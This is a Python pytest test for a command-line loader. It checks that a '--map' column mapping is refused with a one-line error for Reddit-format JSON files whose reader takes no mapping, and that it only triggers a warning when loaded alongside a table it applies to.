TRIAL = Path(__file__).parent / "data" / "trial"


def test_a_mapping_no_reader_of_the_inputs_takes_is_said_not_ignored(tmp_path):
    """A study's PRAW submissions (id saved as ``post_id``) are detected as Reddit's, whose reader takes no --map:
    before, ``--map id=post_id`` was ignored without a word, the user believing it applied. Now a load of that file
    alone is refused in one line naming the file, its reader and --format tabular, nothing stored; loaded with a table
    the mapping applies to, it is a one-line warning and both are read."""
    posts, comments = TRIAL / "debateland-reddit-posts.json", TRIAL / "debateland-reddit-comments.json"
    store = str(tmp_path / "s.lbug")
    refused = run("load", str(posts), "--map", "id=post_id", "--store", store, "--no-entities", ok=False)
    assert refused.exit_code == 1 and refused.stdout == "" and not (tmp_path / "s.lbug").exists()
    (line,) = refused.stderr.splitlines()
    assert f"{posts} (reddit)" in line and "--format tabular" in line
    mapped = ("--map", "thread=parent_post_id", "--store", store, "--no-entities", "--workers", "1")
    loaded = run("load", str(posts), str(comments), *mapped)
    (warning,) = [line for line in loaded.stderr.splitlines() if "--map" in line]  # beside the progress
    assert warning.startswith("Warning: ") and f"{posts} (reddit)" in warning and str(comments) not in warning
    assert (
        len(json.loads(comments.read_text(encoding="utf-8")))
        == rows(store, "MATCH (c:Comment) RETURN count(c) AS n")[0]["n"]
    )
    assert "--map" not in run("load", str(comments), *mapped).stderr
